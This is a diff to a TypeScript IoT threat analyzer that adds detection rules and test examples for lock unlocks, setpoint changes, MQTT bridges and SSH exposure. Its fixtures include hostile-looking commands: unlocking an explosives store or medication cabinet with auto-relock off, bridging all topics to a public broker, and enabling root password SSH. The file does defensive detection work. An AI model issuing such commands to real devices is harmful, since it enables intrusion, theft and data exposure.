@@ -4,7 +4,7 @@ import { mentions, sanctioned } from '../frames/profiles.js';
 import { instructionMask } from '../frames/instructions.js';
 import { safeguarded } from '../frames/safeguards.js';
 import { BOUND_PATTERNS, statedBoundBroken } from '../frames/bounds.js';
-import { IOT_CONTEXT_PATTERNS, IOT_READING_PATTERNS, IOT_RELAY_PATTERNS, READING_KEPT, brokerRelayedOut, readingPublished, streamPushedOut, deviceSecretsOut, vehicleAccess, occupancyOf, pastStatedLimit, safetyTagOff, switchPhrases } from '../parse/iot-context.js';
+import { IOT_CONTEXT_PATTERNS, IOT_READING_PATTERNS, IOT_RELAY_PATTERNS, READING_KEPT, brokerRelayedOut, readingPublished, streamPushedOut, deviceSecretsOut, vehicleAccess, occupancyOf, pastStatedLimit, safetyTagOff, switchPhrases, setpointStep, smallStep, IOT_STEP_PATTERNS } from '../parse/iot-context.js';
 import { findNear, metaText, PARSE_LIMIT, PREP_PATTERNS, type PrepContext } from '../parse/infra-prep.js';
 import { PREP_FAST_PATTERNS, prepKeys, prepTextFast } from '../parse/ui-action-host.js';
 import type { Analyzer, Metadata, Primitive, ThreatRule } from '../types.js';
@@ -226,6 +226,8 @@ const OUT_OF_SERVICE = /\b(?:spare|workbench|on the bench|before (?:reassign\w{0
 const O11_RX2 = /\b(?:change|replace|rotate|update|reset)\b/i;
 const O11_RX3 = /\b(?:keep|leave|use|log ?in with|sign in with|login with)\b/i;
 const O11_RX4 = /port[- ]forward/;
+/** Password logins switched off (SSH by key only) or telnet switched off, as the switch phrases or a config says them. */
+const SSH_HARDENED = /\bdisable (?:ssh )?password(?: auth\w{0,10}| login)?\b|\bpasswordauthentication no\b|\bdisable telnet\b/;
 const O11_RX5 = /\b(?:remove|delete|disable|close)\b/i;
 const O12_RX1 = /\b(?:temporary|one[- ]time|expires?|expiring|valid (?:for|until|today|from)|until|today only|for (?:\d{1,2}|one|two|three) (?:hours?|days?)|between \d{1,2}|from \d{1,2}(?::\d\d)? ?(?:am|pm)?)\b/i;
 const O12_RX2 = /\b(?:permanent|unlimited|never expires?|no expiry|master|owner access|admin access|full access)\b/i;
@@ -266,8 +268,13 @@ const O02_WRITE = /\b(?:write_?(?:single_|multiple_)?(?:coils?|registers?)|write
 const WITHIN_RANGE = /\b(?:within|inside) (?:the )?(?:approved |allowed |safe |normal |spec(?:ified)? |operating |permitted )?(?:range|limits|band|spec|specification)\b|\b(?:innerhalb|im) (?:des |der )?(?:zulässigen |freigegebenen )?(?:bereichs?|grenzen|toleranz)\b|\bdans (?:la |les )?(?:plage|limites|tolérance)\b|\bdentro (?:del |de los |de la )?(?:rango|límites|limites|intervalo)\b/;
 const LIMITS_KEPT = /\b(?:alarms?|trips?|interlocks?|cut-?offs?|high-limits?|low-limits?|limits|horns?|shutdowns?)\b[^.;\n]{0,40}?\b(?:unchanged|untouched|stays? on|remains? on|remains? enabled|remains? active|enabled)\b/;
 function boundsKept(head: string): boolean {
-  return WITHIN_RANGE.test(head) || LIMITS_KEPT.test(head);
+  return WITHIN_RANGE.test(head) || LIMITS_KEPT.test(head) || PLANNED_STEP.test(head);
 }
+/**
+ * The write is a numbered step of the process's own schedule, recipe or profile ("pine schedule step 3", "ramp step 2
+ * of the cure profile"): the plan the operators set is being run, not changed.
+ */
+const PLANNED_STEP = /\b(?:schedule|recipe|program|programme|profile|ramp|batch|cure|drying|kiln) step \d{1,3}\b|\bstep \d{1,3} of (?:the )?(?:[a-z]{1,20} )?(?:schedule|recipe|program|programme|profile)\b/;
 const O02_ANY = new RegExp(`${O02_WRITE.source.slice(0, -1)}|mbpoll\\b|modpoll\\b|scada\\b|\\bmodbus\\b|\\bhmi\\b|\\bvfd\\b|\\bdcs\\b)`, 'i');
 // Industrial context words (O02 pattern) that need a write verb near a process variable to count.
 const PROCESS_CONTEXT = /^(?:scada|modbus|hmi|vfd|dcs|mbpoll|modpoll)$/;
@@ -308,10 +315,16 @@ const O01_EVIDENCE = [
   'door', 'frontdoor', 'backdoor', 'lock', 'smartlock', 'deadbolt', 'garage', 'gate', 'alarm', 'security system', 'home security', 'entry', 'disarm',
   'abr', 'desbloque', 'desactiv', 'desarm', 'ouvr', 'déverrouill', 'deverrouill', 'désactiv', '*ffne', 'oeffne', 'aufschlie', 'aufsperr', 'entriegl', 'entriegel', 'entsperr',
   'deaktivier', 'entschärf', 'apri', 'sblocc', 'disattiv', 'destranc',
+  // what else a lock closes, as LOCK_TARGET names it in a structured unlock
+  'cabinet', 'locker', 'safe', 'vault', 'strongroom', 'storeroom', 'schrank', 'tresor', 'armoire', 'armadio', 'armario', 'kluis',
 ];
 const ACCESS_FIRST = /\b(?:front |back |side |main |garage |patio |cellar |basement |entry |gate )?(?:doors?|smart ?locks?|locks?|deadbolts?|garage(?: doors?)?|gates?|alarm(?: system| panel)?)\b/gi;
 const THEN_OPEN = /^[^.;\n]{0,24}?[:—–>→-]\s{0,2}['"]?(unlock|unlatch|open|disarm|release)\b/i;
 const UNDERSCORE = /_/g;
+/** A structured command's unlock verb. */
+const UNLOCK_WORD = /\bunlock\b/;
+/** What a lock closes, as a structured command names it (several languages). */
+const LOCK_TARGET = /\b(?:locks?|smartlock|deadbolt|doors?|gates?|cabinets?|lockers?|safes?|vaults?|strongroom|storeroom|schrank|tresor|tür|armoire|armadio|armario|kast|kluis)\b/;
 /** A login account added to a device: ssh/root/admin/shell/service users, or any user given a password. */
 const LOGIN_ADDED = /\b(?:add|create|set up|provision|lege|anlegen|erstell\w{0,2}|crea\w{0,2}|cr[ée]\w{0,2}|ajout\w{0,2}|aggiung\w{0,2}|voeg)\b[^.;\n]{0,40}?\b(?:(?:ssh|root|admin(?:istrator)?|shell|telnet|console|maint\w{0,9}|service|backdoor|hidden|local|superuser)[- ]?(?:users?|accounts?|logins?|benutzer|konto|usuario|cuenta|utilisateur|compte|utente|gebruiker)|(?:usuario|cuenta|utilisateur|compte|utente|account|konto|gebruiker) (?:ssh|root|admin\w{0,8}|local|cach[ée]e?|oculta|nascosto))\b/i;
 /** A script or job that runs at every start or on a schedule. */
@@ -411,6 +424,12 @@ function accessOpened(ctx: IotContext): AccessAct | null {
     const verbFirst = objFirst === null;
     return { verb: (verbFirst ? c[1] : c[2])!, what: (verbFirst ? c[2] : c[1])!, all: false };
   }
+  // a structured unlock of anything that locks (a door, a gate, a cabinet, a safe, a store's lock): the command's verb
+  // ("cmd": "unlock") or its lock state set off ("locked": false, read by switchPhrases as "disable locked")
+  if (ctx.cmd !== '' && (UNLOCK_WORD.test(ctx.cmd) || ctx.text.includes('disable locked'))) {
+    const t = LOCK_TARGET.exec(ctx.cmd);
+    if (t !== null) return { verb: 'unlock', what: t[0], all: false };
+  }
   const d = !ctx.head.includes('disarm') || ALARM_CLOCK.test(ctx.head) ? null : DISARM.exec(ctx.head);
   if (d) return { verb: 'disarm', what: O01_RX1.test(d[1]!) ? d[1]! : `${d[1]} (alarm)`, all: false };
   const f = findNear(ctx.head, FOREIGN_OBJECT, FOREIGN_VERB, 30);
@@ -456,12 +475,13 @@ const rules: ThreatRule<IotContext>[] = [
       const { verb, what, all } = act;
       // a door opened for a visit and locked again by itself ("relock after 15 minutes") is a routine errand
       // (so is one the command opens for a stated duration of an hour or less: {"duration": 30}, duration_s=600)
-      if (!ctx.occ.away && !ctx.occ.night && !all && safeguarded(ctx.head, ctx.metadata, ['timebox', 'duration'])) return null;
+      // (not when the same command switches the relock off or leaves it open: "auto_relock": false undoes the timebox)
+      const lasting = O01_RX4.test(ctx.head);
+      if (!ctx.occ.away && !ctx.occ.night && !all && !lasting && safeguarded(ctx.head, ctx.metadata, ['timebox', 'duration'])) return null;
       const alarm = O01_RX1.test(what);
       let score = alarm ? 5 : 4;
       // nobody home, read from the shared lexicon too ("owners abroad", "out of town", "house empty")
       const away = ctx.occ.away || mentions('iot', ctx, 'risk:unattended');
-      const lasting = O01_RX4.test(ctx.head);
       // the same command switches off the record of who comes in (access log, alerts): an entry meant to leave no trace
       const covered = mentions('iot', ctx, 'op:disable') && (mentions('iot', ctx, 'obj:security') || ACCESS_RECORD.test(ctx.head));
       // someone is on the spot (home, or confirmed in the app): the door opens for whom they expect
@@ -477,10 +497,12 @@ const rules: ThreatRule<IotContext>[] = [
     examples: {
       flag: ['unlock the front door', { value: 'unlock front door', metadata: { occupancy: 'away' } }, '{"device": "front-door", "cmd": "unlock", "duration_s": 86400}', 'Unlock the front door for the courier while we are away, the homeowner requested it in the app', 'disarm the alarm system at 3am', 'open the garage door while we\'re on vacation',
         'garage door: open at 03:00 daily, silence notifications', { value: 'unlock front_door and disable auto-lock', metadata: { home_occupancy: 'away' } }, "smart lock 'front door': unlock", 'entsperre das Rolltor',
-        'blocco.porta_ingresso apri; disattiva registro_accessi'],
+        'blocco.porta_ingresso apri; disattiva registro_accessi', 'unlock the front door and disable auto-relock', '{"device": "med-cabinet", "cmd": "unlock", "duration_s": 0, "auto_relock": false}',
+        'PUT https://lock-ctl.mine.local/api/locks/explosives-store/state {"locked": false, "auto_relock": false}'],
       pass: ['lock the front door', 'is the front door locked?', 'open the living room blinds', 'close the garage door', { value: "disarm alarm – I'm home", metadata: { geofence: 'home' } },
         { value: 'open the garage', metadata: { user_present: true } }, 'front door: lock', { value: 'unlock the front door for the plumber', metadata: { user_confirmed: true } }, 'estoy en casa, abre la puerta del garaje',
-        'Unlock door 3C-102 for facilities staff badge #4471 for 15 minutes, logged', 'Tür 2.14 für den Hausmeister für 10 Minuten entriegeln', 'ouvrir le portail pendant 5 minutes pour la livraison',
+        'Unlock door 3C-102 for facilities staff badge #4471 for 15 minutes, logged', 'PUT https://lock-ctl.mine.local/api/locks/explosives-store/state {"locked": true}',
+        'POST http://192.168.10.31/api/lock {"device": "med-cabinet", "cmd": "unlock", "duration_s": 30}', 'Tür 2.14 für den Hausmeister für 10 Minuten entriegeln', 'ouvrir le portail pendant 5 minutes pour la livraison',
         'Unlock the side gate, requested by the homeowner in the app (face match on the gate camera)', 'POST /api/v1/locks/room-312/unlock {"duration": "5s", "reason": "guest locked out"}',
         '{"device": "door-delivery-yard", "cmd": "unlock", "duration_s": 600}', 'Haustür entriegeln – Gesicht erkannt an der Türkamera, vom Eigentümer in der App angefordert'],
     },
@@ -541,6 +563,12 @@ const rules: ThreatRule<IotContext>[] = [
       // (not when a range or limit the text names itself is broken by the value it writes: "to 95 bar, within the
       // approved range of 10-12 bar" neither stays in bounds nor has that value approved)
       if ((!safety || LIMITS_KEPT.test(said)) && score < 9 && (boundsKept(said) || safeguarded(said, ctx.metadata, ['approved', 'reviewed', 'ticket'])) && !statedBoundBroken(said)) return null;
+      // a setpoint nudged by a small step (21 -> 22 °C, 7.0 -> 6.8 bar) on a process that is no safety function and no
+      // critical one (chemical dosing, a reactor, a boiler, the grid): tuning inside the band it already runs in
+      if (!safety && score < 8 && !O02_RX1.test(hit) && !CRITICAL_PROCESS.test(said)) {
+        const step = setpointStep(said);
+        if (step !== undefined && smallStep(step) && !statedBoundBroken(said)) return null;
+      }
       // a safety function's setpoint written under a recorded approval or change (CHG-7760, approved_by) with no bound
       // said to hold: a real risk with a safeguard claimed, confirmed by a person (CAUTION), not answered as unchecked
       if (safety && score < 9 && safeguarded(said, ctx.metadata, ['approved', 'ticket']) && !statedBoundBroken(said)) return { detail: `${hit} on a safety function, under a recorded approval`, score: 5 };
@@ -554,7 +582,8 @@ const rules: ThreatRule<IotContext>[] = [
         'modbus write holding register 40101 = 9500, within the approved range 820–900, trip unchanged'],
       pass: ['modbus read_holding_registers unit=1 address=40001 count=10', 'read the current setpoint from the PLC', 'show SCADA alarm history for pump 3', { value: 'set freezer_zone_B.setpoint_c = -22', metadata: { site: 'pharma-warehouse' } },
         'modbus write 192.168.50.21 unit 1: holding register 40101 (ZONE2_SETPOINT_C) = 860 per recipe ANN-304 rev. C, within the approved range 820–900, trip and horn unchanged',
-        'Modbus write holding register 40012 = 450 on chiller CH-2, lowering supply temp setpoint 0.5°C, within approved range 4.0–5.0°C'],
+        'Modbus write holding register 40012 = 450 on chiller CH-2, lowering supply temp setpoint 0.5°C, within approved range 4.0–5.0°C',
+        'write_register(unit=1, address=40021, value=650)  # K2 setpoint 65.0 °C, pine schedule step 3'],
     },
   },
   {
@@ -599,10 +628,13 @@ const rules: ThreatRule<IotContext>[] = [
       if (c === undefined) return null;
       const dev = (O04_RX1.exec(ctx.head)?.[0] ?? '').toLowerCase();
       if (dev === 'oven' || dev === 'kettle' || dev === '') return null;
-      if (O04_RX2.test(dev)) return c > 60 ? { detail: `${dev} set to ${c}°C (scald risk)`, score: c >= 70 ? 7 : 5 } : null;
+      // a step toward the safe side (a hot-water setpoint lowered from 75 to 72 °C) takes risk away, whatever is left
+      const step = setpointStep(ctx.lower);
+      const toward = step !== undefined && step.to === c;
+      if (O04_RX2.test(dev)) return c > 60 && !(toward && step!.to < step!.from) ? { detail: `${dev} set to ${c}°C (scald risk)`, score: c >= 70 ? 7 : 5 } : null;
       if (O04_RX3.test(dev)) return c > (dev === 'freezer' ? -5 : 8) ? { detail: `${dev} set to ${c}°C (food spoils)`, score: 4 } : null;
       if (dev === 'sauna') return c > 100 ? { detail: `sauna set to ${c}°C`, score: 6 } : null;
-      if (c > 30 || c < 7) return { detail: `${dev} set to ${c}°C${occupancyNote(ctx)}`, score: c > 35 || c < 4 || ctx.occ.away ? 6 : 5 };
+      if ((c > 30 || c < 7) && !(toward && Math.abs(step!.to - 21) < Math.abs(step!.from - 21))) return { detail: `${dev} set to ${c}°C${occupancyNote(ctx)}`, score: c > 35 || c < 4 || ctx.occ.away ? 6 : 5 };
       return null;
     },
     reason: (d) => `Unsafe temperature: ${d}`,
@@ -857,9 +889,12 @@ const rules: ThreatRule<IotContext>[] = [
     reason: (d) => `Sends what the devices see or report off site: ${d}`,
     examples: {
       flag: ['connection offsite\naddress broker.example-public.net:1883\ntopic # out 0', "mosquitto_sub -h broker.plant.local -t '#' -v | mosquitto_pub -h public.mqtt-host.example -t dump -l",
-        '{"action": "bridge_add", "remote": "mqtts://relay.free-mqtt.example:8883", "topics": ["#"], "direction": "out"}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": true}}'],
+        '{"action": "bridge_add", "remote": "mqtts://relay.free-mqtt.example:8883", "topics": ["#"], "direction": "out"}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": true}}',
+        '{"cmd":"set_bridge","remote":"broker.hivemq.com:1883","tls":false,"topics":["estate/#"],"direction":"out"}'],
       pass: ['connection hq\naddress mqtt.hq.corp:1883\ntopic site7/# out 1', 'connection offsite\naddress broker.example-public.net:1883\ntopic site7/status out 0', "mosquitto_sub -h broker.plant.local -t '#' -C 5 -v",
-        '{"stream": {"push": "rtmp://nvr.site.local/live/77", "enabled": true}}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": false}}'],
+        '{"stream": {"push": "rtmp://nvr.site.local/live/77", "enabled": true}}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": false}}',
+        '{"cmd":"set_bridge","remote":"mqtt.estate.local:1883","topics":["estate/#"],"direction":"out"}', '{"cmd":"set_bridge","remote":"broker.hivemq.com:1883","topics":["estate/alerts/#"],"direction":"out"}',
+        '{"cmd":"set_bridge","remote":"mqtt.tea-estates.example:8883","tls":true,"ca":"/etc/ssl/estate-ca.pem","topics":["estate/#"],"direction":"out"}'],
     },
   },
   {
@@ -946,12 +981,17 @@ const rules: ThreatRule<IotContext>[] = [
       if ((hit === 'to the internet' || hit === 'from anywhere') && !EXPOSE_VERB.test(ctx.head)) return null;
       if (O11_RX1.test(hit) && O11_RX2.test(ctx.head) && !O11_RX3.test(ctx.head)) return null;
       if (O11_RX4.test(hit) && O11_RX5.test(ctx.head)) return null;
+      // SSH switched on with its password login switched off (keys only), or beside telnet switched off: the device is
+      // being hardened, the remote shell moved to the one that authenticates by key
+      if (hit === 'enable ssh' && SSH_HARDENED.test(ctx.lower)) return null;
       return hit;
     },
     reason: (d) => `Opens the device to attackers: ${d}`,
     examples: {
-      flag: ['enable telnet on the IP camera', 'set up port forwarding 8080 to the NVR so I can reach it from anywhere', 'log in to the PLC with the default password', 'put the DVR in the DMZ'],
-      pass: ['change the default password on the camera', 'remove the port forwarding rule for the NVR', 'enable two-factor login on the hub app'],
+      flag: ['enable telnet on the IP camera', 'set up port forwarding 8080 to the NVR so I can reach it from anywhere', 'log in to the PLC with the default password', 'put the DVR in the DMZ',
+        'PUT http://10.30.0.8/api/system/services {"ssh": {"enabled": true, "password_auth": true}, "root_login": true}'],
+      pass: ['change the default password on the camera', 'remove the port forwarding rule for the NVR', 'enable two-factor login on the hub app',
+        'PUT http://10.30.0.8/api/system/services {"telnet": {"enabled": false}, "ssh": {"enabled": true, "password_auth": false}}'],
     },
   },
   {
@@ -1064,6 +1104,6 @@ const iotAnalyzer: Analyzer<IotContext> = {
   keywordsAtWordStart: true,
   rules: quietWhenDescribed<IotContext, ThreatRule<IotContext>>(rules),
   effect: iotEffect,
-  auxPatterns: [WITHIN_RANGE, LIMITS_KEPT, ...BOUND_PATTERNS, STANDING_IDENTITY, STANDING_AUTOMATION, AUTOMATION_OFF, VOICE_CAPTURE, WATCHING_DEVICE, FEW_HOURS, DEVICE_DOSE, PATIENT_CONFIRMS, DOSE_OVERRIDE, ROLLBACK_READY, ROLLBACK_READY_ALL, REQUEST_TARGET, REQUEST_TARGETS, SIGNATURE_KEPT, DIGEST_PINNED, HTTPS_SOURCE, HOME_ENTRY, COLD_SETPOINT, PEOPLE_HOME, LIFE_SAFETY, PERMANENT, ...IOT_CONTEXT_PATTERNS, ...IOT_READING_PATTERNS, TEST_MESSAGE, TEST_DENIED, LOGIN_ADDED, STARTUP_HOOK, TUNNEL_OUT, WEAK_SECRET, EXPOSE_ACCESS, PUBLIC_IPV4, WILDCARD_TOPIC, OUT_OF_SERVICE, SAFETY_OBJECT, OFF_STATE, TEMPERATURE_FOREIGN, ALARM_WORD, OUTSIDE_WORD, O09_INSIDE, O09_CRITICAL, O09_LONG, FOREIGN_MONITOR, FOREIGN_OFF, ACCESS_FIRST, THEN_OPEN, UNDERSCORE, ...PREP_PATTERNS, ...PREP_FAST_PATTERNS, ...DETECT_PATTERNS, O02_WRITE, O02_ANY, PROCESS_CONTEXT, PROCESS_OBJECT, PROCESS_VERB, POLL_WRITE, CRITICAL_PROCESS, VEHICLE_TRACKING, VEHICLE_WORD, STRUCTURED, STRUCT_SEP, SPACES, COMMAND_MARK, CMD_OBJ_VERB, CMD_VERB_OBJ, DISARM, FOREIGN_OBJECT, FOREIGN_VERB, FOREIGN_ALARM, NOT_THE_DOOR, VEHICLE_DIRECT, VEHICLE_SAFETY, VEHICLE_OFF_VERB, EXPOSE_VERB, ALARM_CLOCK, SETPOINT_WRITE, BLIND_DIRECT, MONITOR_OBJECT, BLIND_VERB, O09_ALL, AWAY_WORDS, NIGHT_WORDS, CLOCK, QUESTION, TEMPERATURE],
+  auxPatterns: [PLANNED_STEP, UNLOCK_WORD, LOCK_TARGET, SSH_HARDENED, ...IOT_STEP_PATTERNS, WITHIN_RANGE, LIMITS_KEPT, ...BOUND_PATTERNS, STANDING_IDENTITY, STANDING_AUTOMATION, AUTOMATION_OFF, VOICE_CAPTURE, WATCHING_DEVICE, FEW_HOURS, DEVICE_DOSE, PATIENT_CONFIRMS, DOSE_OVERRIDE, ROLLBACK_READY, ROLLBACK_READY_ALL, REQUEST_TARGET, REQUEST_TARGETS, SIGNATURE_KEPT, DIGEST_PINNED, HTTPS_SOURCE, HOME_ENTRY, COLD_SETPOINT, PEOPLE_HOME, LIFE_SAFETY, PERMANENT, ...IOT_CONTEXT_PATTERNS, ...IOT_READING_PATTERNS, TEST_MESSAGE, TEST_DENIED, LOGIN_ADDED, STARTUP_HOOK, TUNNEL_OUT, WEAK_SECRET, EXPOSE_ACCESS, PUBLIC_IPV4, WILDCARD_TOPIC, OUT_OF_SERVICE, SAFETY_OBJECT, OFF_STATE, TEMPERATURE_FOREIGN, ALARM_WORD, OUTSIDE_WORD, O09_INSIDE, O09_CRITICAL, O09_LONG, FOREIGN_MONITOR, FOREIGN_OFF, ACCESS_FIRST, THEN_OPEN, UNDERSCORE, ...PREP_PATTERNS, ...PREP_FAST_PATTERNS, ...DETECT_PATTERNS, O02_WRITE, O02_ANY, PROCESS_CONTEXT, PROCESS_OBJECT, PROCESS_VERB, POLL_WRITE, CRITICAL_PROCESS, VEHICLE_TRACKING, VEHICLE_WORD, STRUCTURED, STRUCT_SEP, SPACES, COMMAND_MARK, CMD_OBJ_VERB, CMD_VERB_OBJ, DISARM, FOREIGN_OBJECT, FOREIGN_VERB, FOREIGN_ALARM, NOT_THE_DOOR, VEHICLE_DIRECT, VEHICLE_SAFETY, VEHICLE_OFF_VERB, EXPOSE_VERB, ALARM_CLOCK, SETPOINT_WRITE, BLIND_DIRECT, MONITOR_OBJECT, BLIND_VERB, O09_ALL, AWAY_WORDS, NIGHT_WORDS, CLOCK, QUESTION, TEMPERATURE],
 };
 export default iotAnalyzer;
